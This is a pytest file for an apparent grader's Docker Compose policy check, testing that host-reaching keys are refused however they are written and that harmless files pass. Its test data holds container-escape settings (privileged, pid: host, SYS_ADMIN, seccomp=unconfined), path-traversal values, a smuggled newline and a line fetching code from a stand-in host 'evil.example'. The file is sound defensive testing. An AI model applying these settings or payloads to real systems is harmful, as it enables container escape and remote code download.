"""Keys that reach the engine's machine are refused, however a compose file gets them."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from grader.submission.policy.env_files.check import is_reserved_variable
from tests.submission.policy.small_repositories import (
    ComposeCase,
    compose_with_one_service,
    compose_with_services,
    refused_rules,
)

if TYPE_CHECKING:
    from pathlib import Path

KEYS = {
    "privileged: true": "privileged",
    "pid: host": "pid",
    "pid: 'service:b'": "pid",
    "ipc: host": "ipc",
    "ipc: 'container:registry'": "ipc",
    "uts: host": "uts",
    "userns_mode: host": "userns_mode",
    "cgroup: host": "cgroup",
    "cgroup_parent: /": "cgroup_parent",
    "runtime: crun": "runtime",
    "isolation: process": "isolation",
    "devices: ['/dev/sda:/dev/sda']": "devices",
    "device_cgroup_rules: ['c *:* rwm']": "device_cgroup_rules",
    "gpus: all": "gpus",
    "credential_spec: {file: x.json}": "credential_spec",
    "sysctls: {net.ipv4.ip_forward: 1}": "sysctls",
    "storage_opt: {size: 1G}": "storage_opt",
    "blkio_config: {weight: 300}": "blkio_config",
    "cap_add: [SYS_ADMIN]": "cap_add",
    "group_add: [1000, keep-groups]": "group_add",
    "group_add: ['0\\nkeep-groups']": "group_add",
    "oom_score_adj: -1000": "oom_score_adj",
    "oom_kill_disable: true": "oom_kill_disable",
    "cpu_rt_runtime: 95000": "key-not-allowed",
    "provider: {type: ./evil.sh}": "provider",
    "post_start: [{command: id, privileged: true, user: root}]": "post_start",
    "pre_stop: [{command: id, privileged: true}]": "pre_stop",
    "use_api_socket: true": "use_api_socket",
    "models: [m]": "models",
    "external_links: [registry]": "external_links",
    "dns: 10.0.0.1": "dns",
    "volumes_from: ['container:registry']": "volumes_from",
    "security_opt: ['seccomp=unconfined']": "value-not-allowed",
    "security_opt: ['seccomp:/etc/passwd']": "value-not-allowed",
    "security_opt: ['systempaths=unconfined']": "value-not-allowed",
    "security_opt: ['label:disable']": "value-not-allowed",
    "network_mode: host": "value-not-allowed",
    "network_mode: 'container:registry'": "value-not-allowed",
    "network_mode: 'ns:/proc/1/ns/net'": "value-not-allowed",
    "logging: {driver: syslog, options: {syslog-address: 'tcp://10.0.0.1:514'}}": "value-not-allowed",
    "logging: {driver: fluentd}": "value-not-allowed",
    "logging: {driver: json-file, options: {labels-regex: .*}}": "key-not-allowed",
    "deploy: {resources: {reservations: {devices: [{capabilities: [gpu]}]}}}": "devices",
    "deploy: {resources: {reservations: {generic_resources: [{discrete_resource_spec: {}}]}}}": "key-not-allowed",
    "labels: {com.docker.compose.project.config_files: /etc/x.yaml}": "label-reserved",
    "labels: ['com.docker.compose.project.environment_file=/etc/x']": "label-reserved",
}

WAYS = {
    "by an anchor": "x-a: &a {{{keys}}}\nservices: {{a: {{image: alpine, <<: *a}}}}\n",
    "by a merge of merges": (
        "x-a: &a {{{keys}}}\nx-b: &b {{<<: *a, init: true}}\nservices: {{a: {{image: alpine, <<: [*b]}}}}\n"
    ),
    "by extends": "services: {{b: {{image: alpine, {keys}}}, a: {{extends: {{service: b}}}}}}\n",
    "in a profile": "services: {{a: {{image: alpine}}, b: {{image: alpine, profiles: [never], {keys}}}}}\n",
}


@pytest.mark.parametrize("keys", KEYS)
def test_a_key_that_reaches_further_is_refused(keys: str, tmp_path: Path) -> None:
    assert KEYS[keys] in refused_rules(ComposeCase(compose_with_one_service(keys)).review(tmp_path))


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("keys", KEYS)
def test_it_is_refused_in_whatever_way_it_is_written(keys: str, way: str, tmp_path: Path) -> None:
    assert KEYS[keys] in refused_rules(ComposeCase(WAYS[way].format(keys=keys)).review(tmp_path))


@pytest.mark.parametrize("keys", KEYS)
def test_it_is_refused_in_an_override(keys: str, tmp_path: Path) -> None:
    override = {"compose.override.yaml": "services: {a: {" + keys + "}}\n"}
    assert KEYS[keys] in refused_rules(
        ComposeCase(compose_with_one_service("init: true"), files=override).review(tmp_path)
    )


VALUES = {
    "network_mode": ("host", "container:registry", "ns:/proc/1/ns/net", "(100 %)"),
    "runtime": ("crun",),
    "ipc": ("host", "container:registry"),
    "userns_mode": ("host",),
}


@pytest.mark.parametrize("way", ["${X:-%s}", "${X-%s}", "${NONE:-${NONE-%s}}", "${SET:+%s}", "${X}"])
@pytest.mark.parametrize(("key", "value"), [(key, value) for key, values in VALUES.items() for value in values])
def test_a_value_is_refused_by_a_variable(key: str, value: str, way: str, tmp_path: Path) -> None:
    text = way.replace("%s", value)
    env = f"SET=1\nX={value}\n" if way == "${X}" else "SET=1\n"
    case = ComposeCase(compose_with_one_service(f"{key}: '{text}'"), files={".env": env})
    assert refused_rules(case.review(tmp_path)) & {"value-not-allowed", key}


@pytest.mark.parametrize("name", ["host", "none", "bridge", "default", "ingress", "docker_gwbridge"])
@pytest.mark.parametrize("form", ["{name}", "'{name}'", "'${{N:-{name}}}'"])
def test_a_network_of_the_engine_itself_is_nobodys_own(name: str, form: str, tmp_path: Path) -> None:
    """Compose joins an existing network, declared external or not: `host` is the machine's own."""
    case = ComposeCase(
        compose_with_one_service("networks: [n]", f"networks: {{n: {{name: {form.format(name=name)}}}}}\n")
    )
    review = case.review(tmp_path)
    assert "network-built-in" in refused_rules(review)
    refusal = next(one for one in review.refused if one.rule == "network-built-in")
    assert f"`{name}` is one of the engine's own networks" in refusal.line_in("en")
    assert f"`{name}` est un réseau du moteur lui-même" in refusal.line_in("fr")


@pytest.mark.parametrize("network", ["default: {name: host}", "n: {name: 'container:registry'}", "n: {driver: host}"])
def test_other_ways_into_the_machines_network_are_refused(network: str, tmp_path: Path) -> None:
    assert refused_rules(
        ComposeCase(compose_with_one_service("init: true", f"networks: {{{network}}}\n")).review(tmp_path)
    )


RESERVED = [
    "TERM",
    "TMPDIR",
    "PATH",
    "DOCKER_HOST",
    "DOCKER_CONFIG",
    "DOCKER_CLI_PLUGIN_ORIGINAL_CLI_COMMAND",
    "OTEL_RESOURCE_ATTRIBUTES",
    "COMPOSE_FILE",
]


@pytest.mark.parametrize("name", RESERVED)
@pytest.mark.parametrize("text", ["./a${%s:+/../../../../../..}", "./${%s:-a/b/c/d}/../../../..", "$%s", "${X:-$%s}"])
def test_a_variable_that_is_not_the_same_at_the_bring_up_chooses_nothing(name: str, text: str, tmp_path: Path) -> None:
    """The docker program sets one that `docker-compose` does not: another folder would be checked than mounted."""
    case = ComposeCase(compose_with_one_service(f"volumes: ['{text.replace('%s', name)}:/m']"))
    assert "variable-reserved" in refused_rules(case.review(tmp_path))


@pytest.mark.parametrize(
    "build",
    [
        "{context: ., args: {BASE: '${TERM:+evil.example/x}'}}",
        "{context: ., args: ['BASE=${TERM:-alpine}']}",
        '{context: ., dockerfile_inline: "FROM alpine${TERM:+\\nADD http://evil.example/x /x}\\n"}',
        "{context: '.${TERM:+/../..}'}",
        "'.${TERM:+/../..}'",
    ],
)
def test_nor_does_it_choose_what_is_built(build: str, tmp_path: Path) -> None:
    case = ComposeCase(
        compose_with_services(f"a: {{build: {build}}}"), files={"Dockerfile": "ARG BASE=alpine\nFROM $BASE\n"}
    )
    assert "variable-reserved" in refused_rules(case.review(tmp_path))


@pytest.mark.parametrize("name", RESERVED)
def test_nor_does_it_by_way_of_an_env_file(name: str, tmp_path: Path) -> None:
    files = {".env": f"X=${{{name}:+/../../../../..}}\n"}
    review = ComposeCase(compose_with_one_service("volumes: ['./a${X}:/m']"), files=files).review(tmp_path)
    assert "variable-reserved" in refused_rules(review)
    assert f"the variable `{name}` belongs to the grader" in review.refused[0].line_in("en")
    assert f"la variable `{name}` appartient au correcteur" in review.refused[0].line_in("fr")


@pytest.mark.parametrize(
    "name", ["HOME", "PWD", "USER", "TZ", "PORT", "DOCKER_USER", "COMPOSE_PROJECT_NAME", "GIT_TAG"]
)
def test_the_students_own_variables_are_not_reserved(name: str) -> None:
    assert not is_reserved_variable(name)


HONEST = {
    "free text may use any variable": compose_with_one_service(
        "command: 'echo $PATH $TERM', environment: {P: '$PATH:/x', T: $TERM}"
    ),
    "defaults": compose_with_one_service(
        "container_name: '${NAME:-web}', restart: '${R-always}', ports: ['${P:-4000}:80']"
    ),
    "a user of Docker Hub": compose_with_services("a: {image: '${DOCKER_USER:-zoe}/todos:${TAG:-1}'}"),
    "networks": compose_with_one_service("networks: [n]", "networks: {n: {name: todos-net, driver: bridge}}\n"),
    "a network called like its service": compose_with_one_service("networks: [host]", "networks: {host: {}}\n"),
    "what gives less": compose_with_one_service(
        "cap_drop: [ALL], security_opt: ['no-new-privileges:true'], read_only: true, tmpfs: [/run], mem_limit: 128m, "
        "network_mode: none, logging: {driver: json-file, options: {max-size: 1m}}"
    ),
    "notes": compose_with_one_service("labels: {maintainer: zoe}, x-note: {privileged: true}", "x-top: {pid: host}\n"),
    "hosts": compose_with_one_service("extra_hosts: ['mydocker:192.168.1.2', 'host.docker.internal:host-gateway']"),
    "a byte order mark": "\ufeff" + compose_with_one_service("init: true"),
    "lines of Windows": compose_with_one_service("init: true").replace("\n", "\r\n"),
}


@pytest.mark.parametrize("compose", HONEST.values(), ids=HONEST)
def test_honest_keys_are_let_through(compose: str, tmp_path: Path) -> None:
    review = ComposeCase(compose).review(tmp_path)
    assert review.may_be_brought_up, [one.line_in("en") for one in (*review.refused, *review.invalid)]
